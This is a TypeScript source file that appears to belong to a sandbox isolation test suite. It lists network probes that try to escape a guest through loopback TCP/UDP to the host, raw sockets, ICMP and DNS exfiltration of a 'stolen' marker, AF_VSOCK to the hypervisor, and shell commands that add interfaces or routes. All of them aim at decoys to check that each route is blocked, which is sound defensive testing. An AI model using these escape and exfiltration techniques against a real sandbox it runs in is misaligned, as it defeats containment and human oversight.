import { constants, networkInterfaces } from 'node:os';
import { setTimeout as sleep } from 'node:timers/promises';

import { ipv4, ipv6, words } from '../addresses.ts';
import { told } from '../cell.ts';
import { type Probe, verdict } from '../probe.ts';
import { answer, refused } from '../refused.ts';

const { ECONNREFUSED, ENETUNREACH, EHOSTUNREACH, EADDRNOTAVAIL } = constants.errno;
const UNREACHABLE = [ECONNREFUSED, ENETUNREACH, EHOSTUNREACH, EADDRNOTAVAIL];
const TALK = words('stolen');
/** Interfaces that the kernel gives to every network, which lead nowhere. */
const IDLE = /^(lo|tunl0|gre0|gretap0|erspan0|sit0|ip6tnl0|ip6gre0|ip_vti0|ip6_vti0)$/;

export const network: readonly Probe[] = [
  {
    id: 'tcp-to-the-host',
    class: 'network',
    title: 'connect to a service of the host on its loopback',
    inGuest: 'boundary',
    unisolated: 'escapes',
    run: (attack) =>
      refused(
        attack,
        {
          '127.0.0.1': ['dial', '2', '1', '0', ipv4('127.0.0.1', attack.decoys.tcpPort), TALK],
          '0.0.0.0': ['dial', '2', '1', '0', ipv4('0.0.0.0', attack.decoys.tcpPort), TALK],
          '127.9.9.9': ['dial', '2', '1', '0', ipv4('127.9.9.9', attack.decoys.tcpPort), TALK],
        },
        { name: 'connect', also: UNREACHABLE },
      ),
  },
  {
    id: 'tcp6-to-the-host',
    class: 'network',
    title: 'the same by IPv6, and by an IPv4 address in it',
    inGuest: 'boundary',
    unisolated: 'escapes',
    run: (attack) =>
      refused(
        attack,
        {
          mapped: ['dial', '10', '1', '0', ipv6('00000000000000000000ffff7f000001', attack.decoys.tcpPort), TALK],
          '::1': ['dial', '10', '1', '0', ipv6('00000000000000000000000000000001', attack.decoys.tcpPort), TALK],
        },
        { name: 'connect', also: UNREACHABLE },
      ),
  },
  {
    id: 'udp-to-the-host',
    class: 'network',
    title: 'send a datagram to the host',
    inGuest: 'boundary',
    unisolated: 'escapes',
    async run({ attacker, decoys }) {
      const ran = await attacker.probe(['dial', '2', '2', '0', ipv4('127.0.0.1', decoys.udpPort), TALK]);
      await sleep(100);
      const touched = decoys.touched();
      return verdict(touched.length === 0, `sent ${told(ran, 'send')}; ${touched.join(', ') || 'nothing arrived'}`);
    },
  },
  {
    id: 'addresses-of-the-host',
    class: 'network',
    title: 'connect to the host by its own addresses',
    inGuest: 'boundary',
    unisolated: 'never',
    run: (attack) => {
      const own = Object.values(networkInterfaces())
        .flatMap((list = []) => list)
        .filter(({ family, internal, address }) => family === 'IPv4' && !internal && !address.startsWith('169.254.'));
      return refused(
        attack,
        Object.fromEntries(
          // Where the host has none, its own loopback stands for it.
          [...own.map(({ address }) => address), '127.0.0.1'].map((address) => [
            address,
            ['dial', '2', '1', '0', ipv4(address, attack.decoys.tcpPort), TALK],
          ]),
        ),
        { name: 'connect', also: UNREACHABLE },
      );
    },
  },
  {
    id: 'interfaces',
    class: 'network',
    title: 'find an interface that leads out',
    inGuest: 'boundary',
    unisolated: 'holds',
    async run({ attacker }) {
      const { stdout } = await attacker.sh('cat /proc/net/dev');
      const names = stdout
        .split('\n')
        .slice(2)
        .map((line) => line.split(':')[0]?.trim() ?? '')
        .filter((name) => name !== '');
      return verdict(names.includes('lo') && names.every((name) => IDLE.test(name)), names.join(' '));
    },
  },
  {
    id: 'route-to-metadata',
    class: 'network',
    title: 'find a route to the metadata service of a cloud, or to anything',
    inGuest: 'boundary',
    unisolated: 'holds',
    async run({ attacker }) {
      const { stdout } = await attacker.sh('tail -n +2 /proc/net/route; grep -v " lo$" /proc/net/ipv6_route; true');
      const leading = stdout
        .split('\n')
        .filter((line) => line.trim() !== '' && !/\s(lo|sit0|ip6tnl0)$/.test(line.trim()));
      return verdict(leading.length === 0, leading.join('; ') || 'there is no route');
    },
  },
  {
    id: 'raw-sockets',
    class: 'network',
    title: 'send packets of its own making',
    inGuest: 'boundary',
    unisolated: 'escapes-as-root',
    run: (attack) =>
      refused(attack, {
        icmp: ['call', 'socket', '2', '3', '1'],
        raw: ['call', 'socket', '2', '3', '255'],
        raw6: ['call', 'socket', '10', '3', '58'],
        packet: ['call', 'socket', '17', '3', '768'],
      }),
  },
  {
    id: 'ping',
    class: 'network',
    title: 'carry data out by ICMP without privileges',
    inGuest: 'boundary',
    unisolated: 'never',
    async run({ attacker, users }) {
      const said: string[] = [];
      let holds = true;
      for (const user of users) {
        // An address of documentation, which nobody has.
        const ran = await attacker.probe(['dial', '2', '2', '1', ipv4('192.0.2.1', 0), TALK], { user });
        const came = told(ran, 'connect') ?? told(ran, 'socket');
        holds &&= came !== undefined && came < 0;
        said.push(`${user}: ${answer(ran, came)}`);
      }
      return verdict(holds, said.join('; '));
    },
  },
  {
    id: 'hypervisor',
    class: 'network',
    title: 'reach the hypervisor by AF_VSOCK',
    inGuest: 'kernel',
    unisolated: 'holds',
    run: (attack) => refused(attack, { vsock: ['call', 'socket', '40', '1', '0'] }),
  },
  {
    id: 'dns',
    class: 'network',
    title: 'carry data out in questions to a resolver',
    inGuest: 'boundary',
    unisolated: 'never',
    async run({ attacker, decoys }) {
      const { stdout } = await attacker.sh('grep -h ^nameserver /etc/resolv.conf 2>/dev/null; true');
      // A question for "stolen.test" of type A.
      const question = Buffer.from(
        'abcd01000001000000000000067374 6f6c656e047465737400 00010001'.replaceAll(' ', ''),
        'hex',
      );
      const answers: string[] = [];
      for (const address of ['127.0.0.1', '127.0.0.53', '127.0.0.11']) {
        const ran = await attacker.probe(['dial', '2', '1', '0', ipv4(address, 53), words(question)]);
        answers.push(`${address}: ${answer(ran, told(ran, 'connect'))}`);
        await attacker.probe(['dial', '2', '2', '0', ipv4(address, decoys.udpPort), words(question)]);
      }
      await sleep(100);
      const touched = decoys.touched();
      const isReached = answers.some((line) => line.includes('succeeded'));
      const servers = stdout.trim().replaceAll('\n', ', ');
      return verdict(
        !isReached && touched.length === 0,
        `${servers || 'no nameserver'}; ${[...answers, ...touched].join('; ')}`,
      );
    },
  },
  {
    id: 'change-the-network',
    class: 'network',
    title: 'give itself an address or a route',
    inGuest: 'kernel',
    unisolated: 'never',
    async run(attack) {
      const said: string[] = [];
      for (const user of attack.users) {
        const { stdout } = await attack.attacker.sh(
          '(ip link add escape type dummy || ifconfig lo 10.99.99.99 || route add default lo) 2>&1; true',
          { user },
        );
        said.push(`${user}: ${stdout.trim().split('\n').at(-1) ?? ''}`);
      }
      const { stdout } = await attack.attacker.sh('cat /proc/net/dev /proc/net/route /proc/net/fib_trie');
      return verdict(!/escape|10\.99\.99\.99|^lo\t00000000/m.test(stdout), said.join('; '));
    },
  },
];
